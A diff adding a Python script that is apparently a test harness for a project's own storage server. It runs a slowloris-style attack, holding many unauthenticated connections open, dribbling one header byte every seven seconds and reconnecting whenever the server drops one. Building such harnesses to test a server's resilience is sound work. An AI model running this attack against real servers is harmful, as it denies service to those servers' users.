@@ -1,0 +1,69 @@
+"""An attack on a storage server: ``python slow_hellos.py HOST PORT COUNT``.
+
+It keeps COUNT connections open without a token, sends one byte of a right header on each every 7 s, and opens each
+again as soon as the server has ended it. It prints ``ready`` when the server has so many that it ended one, and ends
+with its standard input, when it prints how many it has opened.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import errno
+import select
+import socket
+import sys
+import time
+
+from gdrkit.storage import messages as ask
+from gdrkit.storage.control import pack_request
+from gdrkit.storage.wire import FrameType, pack_control
+
+__all__ = ["main"]
+
+_BYTE_PERIOD_S = 7.0
+_LOOK_PERIOD_S = 0.05
+
+
+def main(host: str, port: int, count: int) -> None:
+    """Attack until standard input ends."""
+    frame = pack_control(FrameType.CONTROL_REQUEST, pack_request(ask.Statistics()), sequence=1)
+    ends: dict[socket.socket, int] = {}
+    opened, next_byte_s, is_ready = 0, 0.0, False
+    while not select.select([sys.stdin], (), (), _LOOK_PERIOD_S)[0]:
+        readable = select.poll()
+        for end in ends:
+            readable.register(end, select.POLLIN)
+        by_number = {end.fileno(): end for end in ends}
+        ended = readable.poll(0)
+        for number, _events in ended:
+            end = by_number[number]
+            with contextlib.suppress(OSError):
+                end.recv(4096)
+            del ends[end]
+            end.close()
+        while len(ends) < count:
+            end = socket.socket()
+            end.settimeout(0)
+            if end.connect_ex((host, port)) not in {0, errno.EINPROGRESS}:
+                end.close()
+                break
+            opened += 1
+            # Every second one begins at once, the others are silent for a while.
+            ends[end] = 0
+            if opened % 2:
+                with contextlib.suppress(OSError):
+                    ends[end] = end.send(frame[:1])
+        if time.monotonic() >= next_byte_s:
+            next_byte_s = time.monotonic() + _BYTE_PERIOD_S
+            for end, sent in ends.items():
+                with contextlib.suppress(OSError):
+                    ends[end] += end.send(frame[sent : sent + 1])
+        if not is_ready and ended:
+            is_ready = True
+            sys.stdout.write("ready\n")
+            sys.stdout.flush()
+    sys.stdout.write(f"{opened}\n")
+
+
+if __name__ == "__main__":
+    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
